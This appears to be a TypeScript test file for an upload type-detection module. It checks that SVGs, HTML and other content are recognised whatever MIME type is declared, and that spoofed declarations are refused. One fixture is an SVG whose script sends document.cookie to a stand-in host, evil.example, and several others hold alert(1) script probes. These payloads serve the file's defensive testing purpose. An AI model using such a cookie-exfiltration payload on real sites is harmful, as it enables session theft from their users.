import { Readable } from 'node:stream';
import { inspect } from './inspect';
import { declaredTypeAgrees, verifiedType } from './type-agreement';

// Issue #11: an SVG with a script and no `<?xml` line, declared image/png, ended `ready` as image/png.
const SVG_WITH_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>\n`;
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');

const detect = async (content: string | Buffer) => (await inspect(Readable.from([Buffer.from(content)]))).detectedType;

describe('detection of text formats', () => {
  it.each([
    ['without an XML declaration', SVG_WITH_SCRIPT],
    ['with an XML declaration', `<?xml version="1.0" encoding="UTF-8"?>\n${SVG_WITH_SCRIPT}`],
    [
      'after a BOM, comments and a doctype with an internal subset',
      `\ufeff  <!-- made by hand -->\n<!DOCTYPE svg [ <!ENTITY x "<b>"> ]>\n<!-- again -->${SVG_WITH_SCRIPT}`,
    ],
    ['with a namespace prefix', '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>'],
    ['in upper case', '<SVG xmlns="http://www.w3.org/2000/svg"></SVG>'],
    ['after a prolog longer than file-type reads', `<?xml version="1.0"?><!-- ${'licence text '.repeat(600)} -->${SVG_WITH_SCRIPT}`],
  ])('names an SVG %s', async (_, content) => {
    expect(await detect(content)).toBe('image/svg+xml');
  });

  it.each([
    ['an HTML page', '<!doctype html><html><body><script>alert(1)</script></body></html>', 'text/html'],
    ['an HTML fragment', '  <script>alert(1)</script>', 'text/html'],
    ['XML with another root', '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"></kml>', 'application/xml'],
    ['CSV', 'id,name\n1,café\n', 'text/plain'],
    ['JSON', '{"svg": "<svg>"}', 'text/plain'],
    ['a PNG, by its magic bytes', PNG, 'image/png'],
    ['binary bytes of no known format', Buffer.from([0x00, 0x13, 0x37, 0xfe, 0x01, 0x02]), null],
  ])('names %s', async (_, content, type) => {
    expect(await detect(content)).toBe(type);
  });

  it('takes text cut inside a multi-byte character at the end of the sample for text', async () => {
    const head = Buffer.from(`${'a'.repeat(16 * 1024 - 1)}é`); // é's second byte falls past the sample
    expect(await detect(head)).toBe('text/plain');
  });
});

describe('declaredTypeAgrees', () => {
  it.each([
    ['image/png', 'image/svg+xml'], // the spoof
    ['text/xml', 'image/svg+xml'],
    ['text/plain', 'image/svg+xml'],
    ['image/svg+xml', 'application/xml'],
    ['image/svg+xml', 'text/plain'],
    ['image/png', 'text/plain'],
    ['image/png', 'text/html'],
    ['image/jpeg', 'image/png'],
    ['image/jpeg', 'application/x-elf'],
    ['image/png', 'application/zip'],
    ['text/csv', 'application/zip'],
  ])('refuses %s declared for content that is %s', (declared, detected) => {
    expect(declaredTypeAgrees(declared, detected)).toBe(false);
  });

  it.each([
    ['image/png', 'image/png'],
    ['IMAGE/PNG; charset=binary', 'image/png'],
    ['image/svg+xml', 'image/svg+xml'],
    ['image/jpg', 'image/jpeg'],
    ['video/quicktime', 'video/mp4'],
    ['video/x-matroska', 'video/matroska'],
    ['application/octet-stream', 'image/svg+xml'], // claims nothing: the detected type stands
    ['', 'image/png'],
    ['image/png', null], // an unknown binary format disproves nothing (the decoder decides)
    ['text/csv', 'text/plain'],
    ['application/json', 'text/plain'],
    ['application/vnd.ms-excel', 'text/plain'],
    ['text/markdown', 'text/html'],
    ['application/vnd.google-earth.kml+xml', 'application/xml'],
    ['text/xml', 'application/xml'],
    ['application/vnd.ms-excel', 'application/x-cfb'],
    ['application/vnd.google-earth.kmz', 'application/zip'],
  ])('accepts %s declared for content that is %s', (declared, detected) => {
    expect(declaredTypeAgrees(declared, detected)).toBe(true);
  });
});

describe('verifiedType', () => {
  it('is the detected type, but plain text and unknown bytes keep the name they were declared with', () => {
    expect(verifiedType('application/octet-stream', 'image/svg+xml')).toBe('image/svg+xml');
    expect(verifiedType('text/markdown', 'text/html')).toBe('text/html');
    expect(verifiedType('text/csv', 'text/plain')).toBe('text/csv');
    expect(verifiedType('application/octet-stream', 'text/plain')).toBe('text/plain');
    expect(verifiedType('image/jpeg', null)).toBe('image/jpeg');
  });
});
